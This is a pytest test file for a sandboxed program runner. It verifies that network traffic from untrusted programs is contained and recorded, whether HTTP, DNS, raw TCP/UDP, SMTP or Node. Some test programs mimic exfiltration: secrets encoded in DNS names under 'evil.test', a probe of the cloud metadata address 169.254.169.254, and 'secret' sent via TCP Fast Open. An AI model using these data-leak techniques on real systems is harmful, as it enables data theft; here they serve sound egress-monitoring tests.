"""Connections: none leaves, each is told, and a stand-in answers where the order has one."""

from __future__ import annotations

import pytest

from arena.tracks.dual.runner import Order, RunReply
from arena.tracks.dual.runner.observation import ObservedConnection, ProcessEnded
from arena.tracks.dual.runner.order import SINK
from arena.tracks.dual.runner.pool import ProgramRunner
from tests.arena.dual.runner.orders import QUICK, running


def test_names_and_requests_are_seen_and_answered(runner: ProgramRunner) -> None:
    program = """
        import urllib.error, urllib.request
        for url in ("http://api.test/v1?k=1", "http://api.test/none", "http://other.test:8080/"):
            try:
                with urllib.request.urlopen(url, data=b"x=1" if "v1" in url else None) as answer:
                    print(answer.status, answer.headers["X-Kind"], answer.read().decode())
            except urllib.error.HTTPError as error:
                print(error.code)
    """
    replies = (
        RunReply("api.test", "/v1", 201, (("X-Kind", "stand-in"),), "é"),
        RunReply("api.test", "", 404),
    )
    seen = runner.run(running(program, replies=replies))
    assert seen.stdout == "201 stand-in é\n404\n200 None sink\n", seen.stderr
    asked = [c for c in seen.connections if c.kind == "http"]
    assert [(c.host, c.port) for c in asked] == [
        ("api.test", 80),
        ("api.test", 80),
        ("other.test", 8080),
    ]
    assert asked[0].data.startswith("POST /v1?k=1 HTTP/1.1\r\n") and asked[0].data.endswith("x=1")
    names = {(c.host, c.data) for c in seen.connections if c.kind == "dns"}
    assert {("api.test", "A"), ("other.test", "A")} <= names


def test_what_is_sent_in_names_is_seen(runner: ProgramRunner) -> None:
    program = """
        import socket
        for name in ("secret-token.evil.test", "never.invalid", "localhost"):
            try:
                print(socket.gethostbyname(name))
            except OSError:
                print("no such name")
    """
    seen = runner.run(running(program))
    assert seen.stdout == f"{SINK}\nno such name\n127.0.0.1\n"
    assert [c.host for c in seen.connections] == ["secret-token.evil.test", "never.invalid"]


def test_addresses_and_ports_of_all_kinds(runner: ProgramRunner) -> None:
    program = """
        import socket
        for address in (("169.254.169.254", 80), ("10.0.0.5", 6379), ("2001:db8:1::1", 443), ("192.0.2.9", 40000)):
            try:
                with socket.create_connection(address, timeout=4) as made:
                    made.sendall(b"to " + address[0].encode())
                    print(made.recv(10))
            except OSError as error:
                print(error.strerror)
        udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        udp.sendto(b"a log line", ("192.0.2.10", 514))
        udp.sendto(b"no query", ("192.0.2.10", 53))
    """
    seen = runner.run(running(program))
    assert seen.stdout == "b''\nb''\nb''\nConnection refused\n", seen.stderr
    assert set(seen.connections) == {
        ObservedConnection("tcp", "169.254.169.254", 80, "to 169.254.169.254"),
        ObservedConnection("tcp", "10.0.0.5", 6379, "to 10.0.0.5"),
        ObservedConnection("tcp", "2001:db8:1::1", 443, "to 2001:db8:1::1"),
        ObservedConnection("tcp", "192.0.2.9", 40000),
        ObservedConnection("udp", "192.0.2.10", 514, "a log line"),
        ObservedConnection("udp", "192.0.2.10", 53, "no query"),
    }


# Addresses by the program's own: nobody was there to ask, so nothing was sent, and nothing seen.
NEAR = (
    "198.51.100.7",
    "198.51.100.1",
    "198.51.100.255",
    "2001:db8::7",
    "2001:db8::99",
    "fe80::1%eth0",
)


@pytest.mark.parametrize("port", [80, 40000])
@pytest.mark.parametrize("host", NEAR)
def test_what_is_sent_to_a_near_address_is_seen(
    runner: ProgramRunner, host: str, port: int
) -> None:
    program = f"""
        import socket
        for kind in (socket.SOCK_DGRAM, socket.SOCK_STREAM):
            (family, _, _, _, address), = socket.getaddrinfo("{host}", {port}, type=kind)
            made = socket.socket(family, kind)
            made.settimeout(0.3)
            try:
                made.connect(address)
                made.send(b"x")
            except OSError:
                pass
    """
    seen = runner.run(running(program))
    bare = host.partition("%")[0]
    sent = {(c.kind, c.host.partition("%")[0], c.port) for c in seen.connections}
    assert sent == {("udp", bare, port), ("tcp", bare, port)}


def test_no_datagram_waits_for_who_has_its_address(runner: ProgramRunner) -> None:
    """It was lost when the program ended first: one time in sixty."""
    program = """
        import socket
        socket.socket(socket.AF_INET6, socket.SOCK_DGRAM).sendto(b"x" * 6000, ("2001:db8:9::1", 9))
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x" * 6000, ("203.0.113.1", 9))
    """
    for _ in range(10):
        seen = runner.run(running(program))
        assert {c.host for c in seen.connections} == {"2001:db8:9::1", "203.0.113.1"}, seen.stderr


def test_names_asked_by_ipv6_are_seen(runner: ProgramRunner) -> None:
    program = r"""
        import socket
        query = b"\0\1\1\0\0\1\0\0\0\0\0\0\6secret\4evil\4test\0\0\1\0\1"
        socket.socket(socket.AF_INET6, socket.SOCK_DGRAM).sendto(query, ("2001:db8:9::1", 53))
    """
    seen = runner.run(running(program))
    assert seen.connections == (ObservedConnection("dns", "secret.evil.test", 53, "A"),), (
        seen.stderr
    )


def test_what_goes_with_the_first_packet_is_seen(runner: ProgramRunner) -> None:
    """TCP Fast Open (RFC 7413) without a cookie, to a port where nobody accepts."""
    program = """
        import socket
        for family, host in ((socket.AF_INET, "203.0.113.9"), (socket.AF_INET6, "2001:db8:9::1")):
            made = socket.socket(family)
            made.setsockopt(socket.IPPROTO_TCP, 34, 1)
            try:
                made.sendto(b"secret", socket.MSG_FASTOPEN, (host, 40000))
            except ConnectionRefusedError:
                pass
    """
    seen = runner.run(running(program))
    assert [c.data for c in seen.connections] == ["secret", "secret"], seen.stderr


def test_an_address_with_two_spellings_is_told_once(runner: ProgramRunner) -> None:
    program = """
        import socket
        with socket.create_connection(("::203.0.113.1", 80), timeout=4) as made:
            made.sendall(b"x")
    """
    seen = runner.run(running(program))
    assert seen.connections == (ObservedConnection("tcp", "::203.0.113.1", 80, "x"),), seen.stderr


def test_an_upload_takes_no_room_from_what_is_seen_as_a_packet(runner: ProgramRunner) -> None:
    program = """
        import socket
        with socket.create_connection(("192.0.2.1", 443)) as made:
            try:
                made.sendall(bytes(4 << 20))
            except OSError:
                pass
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("203.0.113.9", 9))
    """
    seen = runner.run(running(program))
    assert {c.kind for c in seen.connections} == {"tcp", "udp"}, seen.stderr


def test_what_came_too_fast_to_be_read_is_told(runner: ProgramRunner) -> None:
    program = """
        import socket
        made = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        for n in range(60_000):
            made.sendto(b"same", ("203.0.113.9", 9))
        made.sendto(b"other", ("203.0.113.10", 9))
    """
    seen = runner.run(running(program))
    hosts = {c.host for c in seen.connections if c.kind == "udp"}
    lost = [c for c in seen.connections if c.kind == "lost"]
    assert "203.0.113.9" in hosts and (lost or "203.0.113.10" in hosts)


def test_loopback_is_the_programs_own(runner: ProgramRunner) -> None:
    program = """
        import socket
        own = [socket.create_server((a, p)) for a, p in (("127.0.0.1", 8080), ("127.0.0.9", 80), ("", 3306), ("", 53))]
        with socket.create_connection(("127.0.0.1", 8080)) as made:
            made.sendall(b"x")
            print(own[0].accept()[0].recv(1))
    """
    seen = runner.run(running(program))
    assert (seen.stdout, seen.connections) == ("b'x'\n", ()), seen.stderr


def test_mail_is_taken(runner: ProgramRunner) -> None:
    program = """
        import smtplib
        with smtplib.SMTP("mail.test", 25, timeout=4) as mail:
            mail.sendmail("a@b.test", ["c@d.test"], "Subject: s\\nBcc: x@y.test\\n\\n.body\\n")
    """
    seen = runner.run(running(program))
    assert seen.steps[0].exit == 0, seen.stderr
    sent = next(c for c in seen.connections if c.port == 25)
    assert "rcpt TO:<c@d.test>" in sent.data and "Bcc: x@y.test\r\n\r\n..body\r\n.\r\n" in sent.data


def test_floods_are_cut(runner: ProgramRunner) -> None:
    program = """
        import socket
        for n in range(700):
            with socket.create_connection(("192.0.2.1", 80)) as made:
                made.sendall(b"%d" % n)
        with socket.create_connection(("192.0.2.1", 80)) as made:
            try:
                for _ in range(100):
                    made.sendall(b"x" * 10_000)
            except OSError:
                print("cut")
    """
    seen = runner.run(running(program))
    assert seen.ended is ProcessEnded.OK and len(seen.connections) == 501
    assert [c.kind for c in seen.connections if c.kind != "tcp"] == ["lost"]
    assert max(len(c.data) for c in seen.connections) <= 16 << 10


def test_node_resolves_and_connects_as_well(runner: ProgramRunner) -> None:
    program = (
        b"require('http').get('http://n.test/p', r => r.on('data', d => console.log(String(d))))"
    )
    order = Order(
        "run", ("node", "/srv/app/a.js"), ({},), files={"/srv/app/a.js": program}, limits=QUICK
    )
    seen = runner.run(order)
    assert seen.stdout == "sink\n", seen.stderr
    assert ("http", "n.test") in {(c.kind, c.host) for c in seen.connections}
